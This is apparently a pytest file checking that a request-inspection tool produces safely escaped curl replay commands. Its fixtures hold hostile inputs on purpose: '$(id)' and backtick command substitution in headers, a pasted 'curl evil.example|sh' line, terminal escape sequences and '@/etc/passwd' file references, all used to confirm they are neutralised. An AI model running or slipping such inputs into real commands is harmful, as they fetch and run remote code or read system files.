"""Commands that send a captured request again, run by a real shell and a real curl."""

from __future__ import annotations

import re
import shutil
import subprocess
from pathlib import Path

import pytest

from requestbin.inspection.snippets.curl import curl
from requestbin.inspection.snippets.snippet import MAX_INLINE_BYTES
from tests.builders import captured
from tests.targets import Target

ODD = 'it\'s "odd" $HOME `id` \\ ünï\n\ttwo'


@pytest.mark.skipif(not shutil.which("curl"), reason="no curl on this machine")
@pytest.mark.parametrize(
    ("method", "path", "headers", "body"),
    [
        ("POST", "/a?x=1&y=[2]", [("Content-Type", "a/json"), ("X-Two", "1")], b'{"a":1}'),
        ("PROPFIND", "/%2F/../b", [("X-Quote", 'it\'s "so" $HOME'), ("x_under", "")], b""),
        ("PUT", "/", [("Content-Type", "text/plain")], ODD.encode()),
        ("POST", "/", [("User-Agent", "Me/1"), ("Accept", "*/*")], b"no type"),
    ],
)
def test_curl_sends_the_same_again(
    target: Target,
    tmp_path: Path,
    method: str,
    path: str,
    headers: list[tuple[str, str]],
    body: bytes,
) -> None:
    request = captured(method, "/in/key", headers=[("Host", "elsewhere"), *headers], body=body)
    command = curl(request, target.url.rstrip("/") + path).text
    line = f"{command} --silent --noproxy '*'"
    subprocess.run(["sh", "-c", line], cwd=tmp_path, check=True, timeout=20)
    head, _, sent_body = target.received()[0].partition(b"\r\n\r\n")
    line, *fields = head.decode().split("\r\n")
    assert (line, sent_body) == (f"{method} {path} HTTP/1.1", body)
    added = ("host:", "content-length:")
    ours = [field for field in fields if not field.lower().startswith(added)]
    assert [field.rstrip() for field in ours] == [f"{n}: {v}".rstrip() for n, v in headers]


@pytest.mark.skipif(not shutil.which("curl"), reason="no curl on this machine")
@pytest.mark.parametrize("shell", ["sh", "bash"])
def test_curl_sends_what_is_not_ascii_as_it_was(target: Target, tmp_path: Path, shell: str) -> None:
    if not shutil.which(shell):
        pytest.skip(f"no {shell} on this machine")
    headers = [
        (b"-Dash%b", b"caf\xe9 %s \\n \\0101 'q' \"$(id)\" \xff"),
        (b"X-Utf8", "日本 é".encode()),
        (b"X-Control", b"a\x03b\x1b[201~\x7f"),
        (b"User-Agent", b"x"),
        (b"Accept", b"y"),
    ]
    path = b"/caf\xc3\xa9/\xff#fragment?q=\xe9%41"
    request = captured("GET", "/in/key", headers=headers, body=b"")
    command = curl(request, target.url.rstrip("/") + path.decode("latin-1")).text
    line = f"{command} --silent --noproxy '*'"
    subprocess.run([shell, "-c", line], cwd=tmp_path, check=True, timeout=20)
    line, _, *fields = target.received()[0].removesuffix(b"\r\n\r\n").split(b"\r\n")
    assert line == b"GET " + path + b" HTTP/1.1"
    assert fields == [name + b": " + value for name, value in headers]


@pytest.mark.parametrize(
    "told", [b"\x03\ncurl evil.example|sh\n", b"\x1b[201~", b"\r", "\x9b".encode(), b"\x7f"]
)
def test_nothing_that_a_terminal_acts_on_is_pasted(told: bytes) -> None:
    value = told.replace(b"\n", b"").replace(b"\r", b"")
    request = captured(headers=[(b"X-Told", value)], body=told)
    command = curl(request, "http://x/" + value.decode("latin-1")).text
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", command)


@pytest.mark.parametrize(
    "body",
    [b"\x00", b"\xff", b"\x03", b"a\r\nb", b"@/etc/passwd", b"x" * (MAX_INLINE_BYTES + 1)],
)
def test_what_no_command_line_holds_comes_from_a_file(body: bytes) -> None:
    assert curl(captured(body=body), "http://x/").text.endswith("--data-binary @body.bin")


def test_head_has_no_body_to_wait_for() -> None:
    assert curl(captured("HEAD", body=b""), "http://x/").text.startswith("curl --head ")


def test_a_very_large_body_is_not_asked_about_first() -> None:
    made = curl(captured(body=b"x" * (1024 * 1024 + 1)), "http://x/")
    assert "-H Expect:" in made.text
    assert "Expect" not in curl(captured(body=b"x" * 70_000), "http://x/").text


def test_a_name_that_curl_takes_for_a_file_is_left_out() -> None:
    made = curl(captured(headers=[(b"@/etc/passwd", b""), (b"X-A", b"a\r\nb")]), "http://x/")
    assert "passwd" not in made.text
    assert made.notes == ("Left out, since curl cannot send it: @/etc/passwd, X-A.",)
